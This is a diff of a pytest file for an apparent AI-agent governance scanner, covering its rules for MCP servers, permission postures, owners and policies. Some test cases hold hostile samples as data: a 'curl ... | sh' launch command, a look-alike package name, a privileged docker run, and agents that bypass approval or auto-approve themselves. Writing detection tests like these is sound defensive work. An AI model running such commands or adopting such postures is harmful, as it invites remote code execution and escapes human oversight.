@@ -7,20 +7,27 @@ from typing import Any
 
 import pytest
 
+from agent.governance.accountability import Accountability, attributed
 from agent.governance.baseline import Baseline
+from agent.governance.mcp_registry import Registered
 from agent.governance.policy import Policy
 from agent.governance.rule import Facts, Rule
 from agent.governance.rules import RULES
+from agent.governance.trust import trusted
+from agent.memo import Memo
 from agent.records import (
     Approval,
     Artifact,
     DataSource,
     Evidence,
     LaunchFile,
+    McpServer,
     ModelProvider,
+    PolicyInForce,
     Posture,
     Record,
     Source,
+    changed,
 )
 from collectors.catalog.schema import Catalog
 from tests import made
@@ -74,6 +81,11 @@ def approval(state: str, **fields: Any) -> Approval:
     return Approval.of(endpoint_id="e", owner="dev", evidence=seen, **given)
 
 
+def in_force(trouble: str | None = None) -> PolicyInForce:
+    given = {"place": "/p", "state": "last_good" if trouble else "current", "trouble": trouble, "reason": trouble}
+    return PolicyInForce.of(endpoint_id="e", evidence=Evidence(collector="rollcall"), version="1", **given)
+
+
 def file(writable_by: str = "owner", exists: bool = True) -> LaunchFile:
     return LaunchFile.model_validate({"path": "/opt/x.py", "exists": exists, "writable_by": writable_by})
 
@@ -96,6 +108,7 @@ CASES: dict[str, tuple[Record, Record]] = {
     "agent.role": (a("vague"), a("demo")),
     "server.unsanctioned": (s(package=EVIL), s(package=GOOD)),
     "server.unvetted": (s(package="pkg:npm/other@1.0.0"), s(package=GOOD)),
+    "server.unregistered": (s(publisher_known=False), s(publisher_known=True)),
     "server.floating": (s(package="pkg:npm/x", pinned=False), s(package=GOOD, pinned=True)),
     "server.no_identity": (s(command="/opt/x"), s(command="npx", package=GOOD)),
     "server.undefined": (s(transport="unknown"), s()),
@@ -107,16 +120,20 @@ CASES: dict[str, tuple[Record, Record]] = {
     "server.downloads": (s(command="python3", args=("/home/dev/Downloads/x.py",)), s(command="/opt/x")),
     "server.missing": (s(launch_file=file(exists=False)), s(launch_file=file())),
     "server.filesystem": (s(data=reads("/home/dev")), s(data=reads("/home/dev/project"))),
-    "server.privileged": (s(args=("run", "--privileged", "x")), s(args=("run", "--rm", "x"))),
+    "server.privileged": (
+        s(command="docker", args=("run", "--privileged", "x")),
+        s(command="docker", args=("run", "x")),
+    ),
     "server.piped_shell": (
         s(command="bash", args=("-c", "curl https://x.test/i.sh | sh")),
         s(command="bash", args=("-c", "curl https://x.test/i.sh > i.sh")),
     ),
-    "server.look_alike": (s(package="pkg:npm/%40good/fiels"), s(package=GOOD)),
+    "server.look_alike": (s(package="pkg:npm/%40modelcontextprotocol-server/github"), s(package=GOOD)),
     "server.bridge": (s(remote_url="https://r.test/"), s()),
     "server.shadow": (i(**SERVER), i(**SERVER, server_ids=("x",))),
     "server.as_root": (i(**SERVER, euid=0), i(**SERVER, euid=1)),
     "owner.unassigned": (a("demo", owner="eve"), a("demo")),
+    "owner.instance_unassigned": (i(owner="eve"), i()),
     "network.egress": (
         c("x", relation="established", remote="203.0.113.9:443"),
         c("x", relation="established", remote="203.0.113.9:443", host="api.example.com"),
@@ -125,7 +142,7 @@ CASES: dict[str, tuple[Record, Record]] = {
     "provider.plain_http": (provider("http://models.good.test/v1"), provider("http://127.0.0.1:11434")),
     "posture.bypass": (posture("bypasses"), posture("asks_risky")),
     "posture.above_ceiling": (posture("auto_approves"), posture("asks_risky")),
-    "posture.auto": (posture("auto_approves"), posture("auto_approves", basis="configured")),
+    "posture.not_comparable": (posture("unknown"), posture("unknown", basis="configured")),
     "posture.unknown": (posture(unknown=("a.b",)), posture()),
     "posture.no_sandbox": (posture("bypasses", sandbox="none"), posture("bypasses", sandbox="full")),
     "posture.everything": (posture(rules=allows("Bash(*)")), posture(rules=allows("Bash(ls:*)"))),
@@ -139,6 +156,8 @@ CASES: dict[str, tuple[Record, Record]] = {
     "hook.project": (artifact(scope="project"), artifact()),
     "hook.network": (artifact(program="curl"), artifact(program="echo")),
     "plugin.marketplace": (artifact(artifact="marketplace"), artifact(artifact="marketplace", scope="managed")),
+    "policy.invalid": (in_force("invalid"), in_force("unreachable")),
+    "policy.unreachable": (in_force("unreachable"), in_force()),
     "evidence.gap": (made.diagnostic(severity="error"), made.diagnostic(severity="warning")),
     "evidence.definition": (made.diagnostic("definition.unread"), made.diagnostic("parse.json")),
     "evidence.pretence": (made.diagnostic("process.title_disagrees"), made.diagnostic("parse.json")),
@@ -146,9 +165,23 @@ CASES: dict[str, tuple[Record, Record]] = {
 }
 
 
-def proofs(rule: Rule, record: Record, *around: Record, baseline: Baseline | None = None) -> list[str]:
-    records = {r.id: r for r in (record, *around)}
-    return [found.what for found in rule.check(record, Facts(records, POLICY, EMPTY, baseline))]
+def judged(*records: Record, policy: Policy = POLICY) -> dict[str, Record]:
+    """The records with who answers for them and what the policy says of them, as rules get to see them."""
+    held = {r.id: r for r in records}
+    held |= {r.id: trusted_as_given(r, held, policy) for r in records if isinstance(r, McpServer)}
+    return held | {r.id: r for r in attributed(held, Accountability(held.values(), policy.owner), Memo())}
+
+
+def trusted_as_given(server: McpServer, held: dict[str, Record], policy: Policy) -> McpServer:
+    (known,) = trusted({server.id: server}, policy, Registered(), Memo())
+    return changed(known, publisher_known=server.publisher_known)
+
+
+def proofs(
+    rule: Rule, record: Record, *around: Record, baseline: Baseline | None = None, policy: Policy = POLICY
+) -> list[str]:
+    records = judged(record, *around, policy=policy)
+    return [found.what for found in rule.check(records[record.id], Facts(records, policy, EMPTY, baseline))]
 
 
 @pytest.mark.parametrize("id", CASES)
@@ -173,6 +206,14 @@ def test_two_servers_under_one_name_are_told_once() -> None:
     assert not proofs(rule, s(package=GOOD), s(agent="zz", path="/z", package=GOOD, launch_hash="1" * 64))
 
 
+def test_without_a_policy_an_agent_that_approves_its_own_actions_is_told_and_with_one_its_ceiling_decides() -> None:
+    rule = BY_ID["posture.auto"]
+    assert proofs(rule, posture("auto_approves"), policy=Policy())
+    assert not proofs(rule, posture("auto_approves", basis="configured"), policy=Policy())
+    assert not proofs(rule, posture("auto_approves"))
+    assert proofs(BY_ID["posture.above_ceiling"], posture("auto_approves"))
+
+
 def test_a_disabled_server_that_runs_is_told() -> None:
     off, on = s(enabled=False), s()
     rule = BY_ID["server.disabled_runs"]
@@ -186,9 +227,33 @@ def test_agents_of_accounts_that_are_no_person_are_told(id: str, account: str) -
     assert not proofs(BY_ID[id], a(), made.owner())
 
 
-def test_a_definition_without_an_account_is_an_orphan() -> None:
-    assert proofs(BY_ID["owner.orphan"], s())
-    assert not proofs(BY_ID["owner.orphan"], s(), made.owner())
+def test_an_agent_without_an_account_is_an_orphan() -> None:
+    assert proofs(BY_ID["owner.orphan"], a())
+    assert proofs(BY_ID["owner.orphan"], a(), made.owner(account="unknown"))
+    assert not proofs(BY_ID["owner.orphan"], a(), made.owner())
+
+
+def test_what_is_set_for_the_machine_needs_somebody_as_soon_as_it_does_something() -> None:
+    rule = BY_ID["owner.unassigned"]
+    assert proofs(rule, a(owner=None, servers=1))
+    assert not proofs(rule, a(owner=None, installed=True))
+
+
+def test_under_a_policy_that_assigns_people_an_account_does_not_speak_for_itself() -> None:
+    rule, eve = BY_ID["owner.unassigned"], made.owner("eve")
+    assert proofs(rule, a(owner="eve"), eve)
+    assert not proofs(rule, a(owner="eve"), eve, policy=Policy.model_validate({"version": "1"}))
+
+
+def test_an_account_that_several_people_work_in_is_shared() -> None:
+    rule, dev = BY_ID["owner.shared"], made.owner()
+    assert proofs(rule, dev, i(7, login_uid=1000), i(8, login_uid=1001))
+    assert not proofs(rule, dev, i(7, login_uid=1000), i(8, login_uid=1000), i(9))
+    kiosk = made.owner("kiosk")
+    assert proofs(rule, kiosk, a(owner="kiosk"), policy=Policy())
+    assert not proofs(rule, kiosk, policy=Policy())
+    assigned = Policy.model_validate({"owner": [{"account": "kiosk", "person": "Dana"}]})
+    assert not proofs(rule, kiosk, a(owner="kiosk"), policy=assigned)
 
 
 def test_only_sockets_open_to_other_machines_are_exposed() -> None:
@@ -225,10 +290,15 @@ def test_every_rule_has_a_test_here() -> None:
     by_hand = {
         "server.replaced",
         "server.differs",
+        "server.impostor",
+        "server.confusable",
+        "server.same_tools",
         "server.disabled_runs",
+        "posture.auto",
         "owner.service",
         "owner.root",
         "owner.orphan",
+        "owner.shared",
     }
     tested = {*CASES, *DRIFT, *by_hand, "network.exposed"}
     assert {rule.id for rule in RULES} == tested
